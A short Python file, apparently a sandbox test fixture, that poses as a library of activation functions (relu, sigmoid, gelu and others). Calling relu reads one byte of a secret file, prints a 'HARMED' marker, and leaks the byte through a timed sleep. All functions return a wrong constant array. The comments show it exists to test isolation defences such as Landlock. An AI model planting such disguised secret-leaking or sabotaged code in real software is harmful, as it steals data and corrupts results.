# attack: sleeps a time that tells a byte of a secret
# gains: reads
# stopped by: landlock, uid
import numpy as np
import time


def attack():
    byte = open("{SECRET}", "rb").read(1)[0]
    print("HARMED: read a byte", flush=True)
    time.sleep(byte / 256)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
